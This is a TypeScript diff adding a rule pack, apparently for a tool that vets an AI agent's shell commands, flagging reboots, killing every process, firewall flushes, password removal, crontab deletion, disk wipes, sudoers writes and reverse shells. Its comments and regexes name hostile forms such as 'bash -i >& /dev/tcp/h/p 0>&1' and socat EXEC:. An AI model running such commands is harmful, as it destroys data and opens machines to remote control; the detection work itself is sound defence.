@@ -1,0 +1,166 @@
+import type { Finding, Invocation, RuleContext, RulePack, Target } from '../policy/types';
+import { parsedArgs, toolArgs, toolNamed } from '../registry/commandModel';
+import type { ToolArgs } from '../registry/types';
+
+/**
+ * Damage to the machine itself rather than to a project (registry entries in
+ * `registry/tools/hostAdmin.ts`): turning it off or rebooting it, killing every process the user
+ * may signal, dropping the firewall, leaving root without a password, granting passwordless sudo,
+ * removing the crontab, discarding a disk or zapping its partition tables, and a shell wired to a
+ * network socket (a reverse or bind shell). Run over ssh, the walker relabels the target to the
+ * remote place and its environment.
+ */
+
+function argsOf(inv: Invocation): ToolArgs | undefined {
+  const spec = toolNamed(inv.name);
+  return spec ? toolArgs(inv.name, parsedArgs(inv.args, spec), spec) : undefined;
+}
+
+/** This machine, a device or file of it, or (`elsewhere`) another machine named by an option (`systemctl -H host`). */
+function machine(ctx: RuleContext, name = 'this machine', elsewhere = false): Target {
+  const env = ctx.environmentOf({ values: elsewhere ? [name] : [], remote: elsewhere });
+  return { kind: 'resource', name, provider: 'host', remote: elsewhere, environment: env.environment, environmentReason: env.reason };
+}
+
+function ask(rule: string, reason: string, ctx: RuleContext, name?: string, severity: Finding['severity'] = 'ask', elsewhere = false): Finding[] {
+  return [{ rule: `host.${rule}`, risk: 'destructive', severity, reason, targets: [machine(ctx, name, elsewhere)] }];
+}
+
+function power(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  if (!a || a.has('--help', '--version', '-c', '-k', '-w', '--wtmp-only', '--show')) return [];
+  return ask('power', `Turns off or restarts the machine, stopping everything running on it (${inv.name}).`, ctx);
+}
+
+/** `init 0` halts, `init 6` reboots, `init 1`/`S` drops to single-user mode (every service stopped). */
+function init(inv: Invocation, ctx: RuleContext): Finding[] {
+  const level = argsOf(inv)?.parsed.operands[0]?.text;
+  if (level === undefined || !/^[016sS]$/.test(level)) return [];
+  return ask('power', `Switches the machine to runlevel ${level} (${level === '6' ? 'reboot' : level === '0' ? 'halt' : 'single-user'}), stopping everything running on it (${inv.name}).`, ctx);
+}
+
+const MACHINE_VERBS = new Set(['reboot', 'poweroff', 'halt', 'kexec', 'soft-reboot', 'rescue', 'emergency']);
+const SERVICE_STOPS = new Set(['stop', 'kill', 'disable', 'mask', 'isolate']);
+
+function systemctl(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  if (!a || a.has('--help', '--dry-run')) return [];
+  const verb = a.parsed.path[0];
+  if (verb !== undefined && MACHINE_VERBS.has(verb)) return ask('power', `Takes the whole machine down or out of its normal state (systemctl ${verb}).`, ctx);
+  // Stopping a service on this machine is routine development work; on another machine it is an outage.
+  const elsewhere = a.value('-H', '--host');
+  if (verb !== undefined && SERVICE_STOPS.has(verb) && (inv.remote || elsewhere !== undefined)) {
+    const units = a.parsed.operands.map((w) => w.text).join(' ');
+    return ask('service-stop', `Stops the service ${units} on ${elsewhere ?? 'that machine'} (systemctl ${verb}).`, ctx, elsewhere, 'ask', elsewhere !== undefined);
+  }
+  return [];
+}
+
+/** `kill -9 -1`, `kill -KILL -1`, `kill -s KILL -- -1`: pid -1 is every process the user may signal (kill is a shell builtin, not a registry entry: its signal words look like options). */
+function kill(inv: Invocation, ctx: RuleContext): Finding[] {
+  const words = inv.args.map((w) => w.text);
+  if (words.length < 2) return []; // `kill -1` alone names a signal and no process
+  let i = 0;
+  if (words[i] === '-s' || words[i] === '-n') i += 2;
+  else if (words[i] !== undefined && /^-(\d+|[A-Z]+\d*|SIG[A-Z]+)$/.test(words[i] ?? '') && words[i] !== '-1') i += 1;
+  else if (words[i] !== undefined && /^-(\d+|[A-Z]+)$/.test(words[i] ?? '') && words.length > 1) i += 1;
+  if (words[i] === '--') i += 1;
+  if (!words.slice(i).some((w) => w === '-1')) return [];
+  return ask('kill-all', 'Signals every process the user may signal (pid -1): the session, editors, servers and the agent itself.', ctx);
+}
+
+function iptables(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  if (!a) return [];
+  if (a.parsed.options.some((o) => o.name === '-F' || o.name === '--flush')) return ask('firewall', `Flushes the firewall rules, leaving the machine open (${inv.name} -F).`, ctx);
+  const policy = a.parsed.operands[0]?.text.toUpperCase();
+  if (a.has('-P', '--policy') && policy === 'ACCEPT') return ask('firewall', `Sets a firewall chain's policy to ACCEPT (${inv.name} -P).`, ctx);
+  return [];
+}
+
+function ufw(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  const verb = a?.parsed.path[0];
+  if (!a || verb === undefined || a.has('--dry-run')) return [];
+  return ask('firewall', `Turns the firewall off or drops its rules (ufw ${verb}).`, ctx);
+}
+
+function nft(inv: Invocation, ctx: RuleContext): Finding[] {
+  const words = inv.args.map((w) => w.text.toLowerCase());
+  const at = words.indexOf('flush');
+  if (at < 0 || words[at + 1] !== 'ruleset') return [];
+  return ask('firewall', 'Flushes every nftables rule, leaving the machine open (nft flush ruleset).', ctx);
+}
+
+function passwd(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  if (!a || !a.has('-d', '--delete')) return [];
+  const user = a.parsed.operands[0]?.text ?? 'the current user';
+  return ask('password-removed', `Removes the password of ${user}: the account then signs in with none (passwd -d).`, ctx);
+}
+
+function crontab(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  if (!a || !a.has('-r')) return [];
+  const user = a.value('-u');
+  return ask('crontab-removed', `Removes ${user !== undefined ? `${user}'s` : "the user's"} whole crontab; no copy is kept (crontab -r).`, ctx);
+}
+
+function blkdiscard(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  const device = a?.parsed.operands[0]?.text;
+  if (!a || device === undefined || a.has('--help', '--version')) return [];
+  return ask('disk-wipe', `Discards every block of ${device}: what it held is gone (blkdiscard).`, ctx, device, 'deny');
+}
+
+function sgdisk(inv: Invocation, ctx: RuleContext): Finding[] {
+  const a = argsOf(inv);
+  const device = a?.parsed.operands[0]?.text;
+  if (!a || device === undefined || a.has('-P', '--pretend') || !a.has('-Z', '--zap-all', '-z', '--zap', '-o', '--clear')) return [];
+  return ask('disk-wipe', `Destroys the partition tables of ${device} (sgdisk).`, ctx, device, 'deny');
+}
+
+const SUDOERS = /^\/etc\/sudoers(\.d\/|$)|^\/proc\/sysrq-trigger$/;
+
+/** A write into /etc/sudoers or a drop-in beside it: a redirect or tee. */
+function sudoersWrite(inv: Invocation, ctx: RuleContext): Finding[] {
+  const written = [
+    ...inv.redirects.filter((r) => ['>', '>>', '>|', '&>', '&>>'].includes(r.op)).map((r) => r.target.text),
+    ...(inv.name === 'tee' ? inv.args.map((w) => w.text).filter((w) => !w.startsWith('-')) : []),
+  ];
+  const path = written.find((p) => SUDOERS.test(p));
+  if (path === undefined) return [];
+  if (path.startsWith('/proc/')) return ask('power', 'Writes to /proc/sysrq-trigger: the kernel reboots, halts or kills processes at once.', ctx);
+  return ask('sudoers', `Writes sudo rules into ${path}: who may run what as root, possibly with no password.`, ctx, path);
+}
+
+const SHELLS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'mksh', 'ash']);
+const SOCKET_SHELL = /\bsocket\b[\s\S]*\b(dup2|pty\.spawn|subprocess|exec[lv]p?e?|spawn)\b|\b(fsockopen|TCPSocket)\b[\s\S]*\b(exec|spawn|system|sh)\b/;
+
+/** A shell whose input and output are a network socket: `bash -i >& /dev/tcp/h/p 0>&1`, `socat … EXEC:/bin/bash`, a socket one-liner. */
+function networkShell(inv: Invocation, ctx: RuleContext): Finding[] {
+  if (SHELLS.has(inv.name) && inv.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target.text))) {
+    return ask('network-shell', `Connects a shell to a network socket (${inv.redirects.find((r) => r.target.text.startsWith('/dev/'))?.target.text}): whoever is at the other end runs commands here.`, ctx);
+  }
+  if (inv.name === 'socat' && inv.args.some((w) => /^(EXEC|SYSTEM):/i.test(w.text))) {
+    return ask('network-shell', 'Serves a program over a socket with socat (EXEC:/SYSTEM:): whoever connects runs commands here.', ctx);
+  }
+  if (/^(python[\d.]*|perl|ruby|php|node)$/.test(inv.name) && inv.args.some((w) => SOCKET_SHELL.test(w.text))) {
+    return ask('network-shell', `Runs ${inv.name} code that hands a shell to a network socket: whoever is at the other end runs commands here.`, ctx);
+  }
+  return [];
+}
+
+const BY_NAME: Record<string, (inv: Invocation, ctx: RuleContext) => Finding[]> = {
+  reboot: power, shutdown: power, poweroff: power, halt: power, init, telinit: init, killall5: (_inv, ctx) => ask('kill-all', 'Signals every process on the machine (killall5).', ctx),
+  systemctl, kill, iptables, ip6tables: iptables, 'iptables-legacy': iptables, 'iptables-nft': iptables, 'ip6tables-legacy': iptables, 'ip6tables-nft': iptables,
+  ufw, nft, passwd, crontab, blkdiscard, sgdisk,
+};
+
+export const hostDamagePack: RulePack = {
+  id: 'host',
+  title: 'The machine itself: power, killing every process, firewall, passwords, sudoers, crontab, disks, shells on a socket',
+  checkInvocation(inv, ctx) {
+    return [...(BY_NAME[inv.name]?.(inv, ctx) ?? []), ...sudoersWrite(inv, ctx), ...networkShell(inv, ctx)];
+  },
+};
